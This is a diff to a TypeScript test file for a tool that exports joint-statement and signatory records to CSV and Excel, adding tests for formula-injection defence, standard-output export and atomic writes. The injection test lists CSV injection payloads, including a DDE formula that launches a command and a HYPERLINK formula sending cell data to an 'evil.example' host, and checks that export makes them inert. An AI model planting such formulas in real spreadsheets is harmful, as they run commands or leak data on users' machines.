@@ -1,7 +1,8 @@
+import { spawn } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { Workbook, type Worksheet } from 'exceljs';
+import { ValueType, Workbook, type Worksheet } from 'exceljs';
 import type { DataSource, EntityManager } from 'typeorm';
 import {
   CSV_COLUMNS,
@@ -23,7 +24,7 @@ import {
 import { importBundle } from '../../src/import/importer/import-bundle';
 import { parseBundleText } from '../../src/import/parser/parse-bundle';
 import type { Bundle } from '../../src/import/parser/bundle.types';
-import { runCli } from '../../../cli/test/run-cli';
+import { BIN, runCli } from '../../../cli/test/run-cli';
 import { snapshot } from '../support/snapshot';
 import { openTestDatabase, testDatabaseUrl } from '../support/test-database';
 
@@ -394,16 +395,66 @@ describe('exporting the archive', () => {
           ],
         });
         const csv = await signaturesCsv(em, { forum: 'Human Rights Council, 42nd session' });
-        const tail = `,"'=HYPERLINK(""http://example.org"",""a test"")",JOINT_STATEMENT,,2,,'@risk; -1+1; plain,\r\n`;
+        const tail = `,"'=HYPERLINK(""http://example.org"",""a test"")",JOINT_STATEMENT,,2,,"'@risk; -1+1; plain",\r\n`;
         expect(csv).toBe(
           `${header}\r\n` +
             `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",FRA,France,France,SIGNED,,${tail}` +
             `test-comma,2019-09,"Human Rights Council, 42nd session","HRC ""42""",TUR,${(await em.query(`SELECT name FROM signatory WHERE iso3 = 'TUR'`))[0].name},Türkiye,SIGNED,2019,${tail}`,
         );
-        // The workbook keeps the exact text, as text: a cell value, never a formula.
+        // The workbook's cell is text, with the same apostrophe: never a formula, also once edited or saved as CSV.
         const workbook = await readWorkbook(await toXlsx([spreadsheetTables(await spreadsheetRows(em, { forum: 'Human Rights Council, 42nd session' })).statements]));
-        expect(workbook.getWorksheet('statements')!.getCell('B2').value).toBe('=HYPERLINK("http://example.org","a test")');
-        expect(workbook.getWorksheet('statements')!.getCell('B2').type).toBe(3); // ValueType.String
+        expect(workbook.getWorksheet('statements')!.getCell('B2').value).toBe(`'=HYPERLINK("http://example.org","a test")`);
+        expect(workbook.getWorksheet('statements')!.getCell('B2').type).toBe(ValueType.String);
+      });
+    });
+
+    it('makes every cell a spreadsheet would run inert, in CSV and XLSX alike, and keeps counts as numbers (OWASP)', async () => {
+      const payloads = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3', '\t=1', '\r=1'];
+      await rolledBack(sample, async (em) => {
+        await importBundle(em, {
+          format: 'jointly-bundle/1',
+          signatories: payloads.map((name, i) => ({ key: `formula-${i}`, kind: 'ORGANIZATION' as const, name })),
+          statements: payloads.map((title, i) => ({
+            key: `formula-${i}`,
+            kind: 'JOINT_STATEMENT' as const,
+            title,
+            date: '2031',
+            forum: 'Formula forum',
+            signatures: [{ signatory: `formula-${i}` }],
+          })),
+        });
+        const rows = await spreadsheetRows(em, { forum: 'Formula forum' });
+        const { statements, signatures } = spreadsheetTables(rows);
+        const titleColumn = CSV_COLUMNS.indexOf('statement_title');
+        const nameColumn = CSV_COLUMNS.indexOf('signatory_name');
+        const listedColumn = CSV_COLUMNS.indexOf('listed_signatory_count');
+
+        const csv = toCsv(signatures);
+        const records = parseCsv(csv).slice(1);
+        expect(records).toHaveLength(payloads.length);
+        const titles = records.map((r) => r[titleColumn]);
+        expect(new Set(titles)).toEqual(new Set(payloads.map((p) => `'${p}`)));
+        expect(new Set(records.map((r) => r[nameColumn]))).toEqual(new Set(payloads.map((p) => `'${p}`)));
+        // Each such field is quoted too: no line of the file has a bare field starting a formula.
+        for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+        expect(records.every((r) => r[listedColumn] === '1')).toBe(true);
+
+        const workbook = await readWorkbook(await toXlsx([statements, signatures]));
+        const sheet = workbook.getWorksheet('signatures')!;
+        const sheetTitles: unknown[] = [];
+        for (let row = 2; row <= payloads.length + 1; row++) {
+          for (const column of [titleColumn, nameColumn]) {
+            const cell = sheet.getRow(row).getCell(column + 1);
+            expect(cell.type).toBe(ValueType.String);
+            expect(String(cell.value).startsWith("'")).toBe(true);
+          }
+          sheetTitles.push(sheet.getRow(row).getCell(titleColumn + 1).value);
+          const listed = sheet.getRow(row).getCell(listedColumn + 1);
+          expect(listed.type).toBe(ValueType.Number);
+          expect(listed.value).toBe(1);
+        }
+        // XML reads a carriage return back as a line feed: the apostrophe before it is what matters.
+        expect(new Set(sheetTitles)).toEqual(new Set(payloads.map((p) => `'${p}`.replace('\r', '\n'))));
       });
     });
   });
@@ -575,6 +626,47 @@ describe('jointly export', () => {
     expect(piped.stderr).toBe('');
     const fromStdout = await readWorkbook(piped.stdoutBytes);
     expect(sheetRows(fromStdout.getWorksheet('statements')!)).toEqual(sheetRows(workbook.getWorksheet('statements')!));
+  });
+
+  /** `jointly ARGS…` in a directory, optionally under a file size limit of `maxFileBlocks` 512-byte blocks (ulimit -f). */
+  function cliIn(cwd: string, args: string[], maxFileBlocks?: number): Promise<{ code: number | null; stdout: string; stderr: string }> {
+    const limit = maxFileBlocks === undefined ? '' : `ulimit -f ${maxFileBlocks} && `;
+    const { DATABASE_URL: _drop, ...env } = process.env;
+    return new Promise((resolve, reject) => {
+      const child = spawn('sh', ['-c', `${limit}exec "$0" "$@"`, process.execPath, BIN, ...args], { cwd, env });
+      let stdout = '';
+      let stderr = '';
+      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
+      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
+      child.on('error', reject);
+      child.on('close', (code) => resolve({ code, stdout, stderr }));
+    });
+  }
+
+  it('writes --out - to standard output, never to a file named "-"', async () => {
+    const cwd = fs.mkdtempSync(path.join(dir, 'stdout-'));
+    const result = await cliIn(cwd, ['--database-url', url, 'export', '--format', 'csv', '--out', '-']);
+    expect(result.code).toBe(0);
+    expect(result.stderr).toBe('');
+    expect(result.stdout.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
+    expect(fs.readdirSync(cwd)).toEqual([]);
+  });
+
+  it('writes --out whole or not at all: a failed write leaves the previous file and no temporary file', async () => {
+    const cwd = fs.mkdtempSync(path.join(dir, 'atomic-'));
+    const file = path.join(cwd, 'signatures.csv');
+    fs.writeFileSync(file, 'the previous export\n');
+    // The CSV is ~60 KB; the limit lets 1 KB through, then the write fails (EFBIG).
+    const failed = await cliIn(cwd, ['--database-url', url, 'export', '--out', file], 2);
+    expect(failed.code).toBe(1);
+    expect(failed.stderr).toMatch(new RegExp(`^jointly: could not write ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(EFBIG\\).*nothing was changed\n$`));
+    expect(fs.readFileSync(file, 'utf8')).toBe('the previous export\n');
+    expect(fs.readdirSync(cwd)).toEqual(['signatures.csv']);
+
+    const written = await cliIn(cwd, ['--database-url', url, 'export', '--out', file]);
+    expect(written.code).toBe(0);
+    expect(fs.readFileSync(file, 'utf8').split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
+    expect(fs.readdirSync(cwd)).toEqual(['signatures.csv']);
   });
 
   it('writes the alignment table of --alignment as CSV, or as a workbook', async () => {
